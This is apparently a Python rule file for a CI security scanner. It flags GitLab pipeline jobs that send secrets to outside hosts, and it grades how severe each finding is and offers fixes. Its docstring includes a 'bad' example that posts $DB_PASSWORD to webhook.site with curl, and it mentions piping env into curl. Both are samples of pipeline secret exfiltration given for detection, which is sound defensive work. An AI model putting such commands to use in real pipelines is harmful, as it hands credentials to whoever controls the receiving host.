"""A secret is sent to a host outside.

What it finds
-------------
- `curl`, `wget`, `nc`, `dig` with a secret and a host that collects requests (webhook.site, ngrok, a bare address, a
  chat hook), also where the secret is in a file or comes through a pipe (`env | curl -d @- ...`): critical.
- GitLab's job token sent to a host that is not GitLab, an ID token sent to a host that none of its audiences names.
- A secret in the body or the query of a request to a host that nothing else in the job names: medium.

Why it matters
--------------
This is how a secret is stolen from a pipeline: one line in a merge request, and the value is gone.

Fix
---
Remove the request, and replace the secret if the job ever ran.

A host that is meant to get the secret belongs in a variable of the job, where a reviewer sees it: it is then known, and
no longer reported.

Bad:

```yaml
script:
  - curl -d "$DB_PASSWORD" https://webhook.site/abc
```

Good:

```yaml
script:
  - curl -d "deployed" https://chat.example.com/hook
```

Limits
------
A service's own key sent to that service is not reported: in a header, under a name like `client_secret=`, or to a host
that shares a word with the secret's name. A host that comes from a variable of the project's settings is not known.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from bot.findings import Hit, Severity
from bot.leaks.hosts import is_collector
from bot.leaks.model import Origin, Sink
from bot.leaks.wording import leak_hit, masking_of, went
from bot.pipeline.model import Job
from bot.rule import Rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from bot.leaks.model import LeakSource
    from bot.repository import Repository


def check(job: Job, repository: Repository) -> Iterator[Hit]:
    """A hit for each such command."""
    for leak in repository.leaks(job):
        if leak.sink is not Sink.FOREIGN_HOST or leak.source is None:
            continue
        yield leak_hit(
            job,
            leak,
            message=f"{_message(leak.detail, leak.source)}{went(leak)}. {masking_of(leak)}",
            attack="Anyone who owns that host has the secret as soon as the job runs.",
            severity=_severity(leak.detail, leak.source.origin),
            remedy=_remedy(leak.detail, leak.source.origin),
        )


def _message(host: str, source: LeakSource) -> str:
    if is_collector(host):
        return f"`{source.name}` is sent to `{host}`, which collects requests for the person who set it up"
    if source.origin is Origin.ID_TOKEN:
        return f"`{source.name}` is sent to `{host}`, which is none of its audiences"
    if source.origin is Origin.PREDEFINED:
        return f"`{source.name}` is sent to `{host}`, which is not GitLab"
    return f"`{source.name}` is sent to `{host}`, which nothing else in this job names"


def _remedy(host: str, origin: Origin) -> str:
    """What to do where the host may be meant to get the secret; "" where it is not."""
    if is_collector(host) or origin is Origin.PREDEFINED:
        return ""
    if origin is Origin.ID_TOKEN:
        return "Declare a token of its own for this service, with its address as the `aud`, or remove the request."
    return (
        "If this host is meant to get the secret, name it in a variable of the job, where a reviewer sees it. "
        "If not, remove the request and replace the secret."
    )


def _severity(host: str, origin: Origin) -> Severity:
    """What collects requests is a theft; of another host only the job's owners know whether it may have the secret."""
    if origin in {Origin.PREDEFINED, Origin.NAMED}:
        return Severity.HIGH
    if is_collector(host):
        return Severity.CRITICAL
    return Severity.HIGH if origin is Origin.ID_TOKEN else Severity.MEDIUM


RULE = Rule(
    "secret-to-foreign-host",
    Job,
    check,
    Severity.CRITICAL,
    others=(Severity.HIGH, Severity.MEDIUM),
    suppressible=False,
)
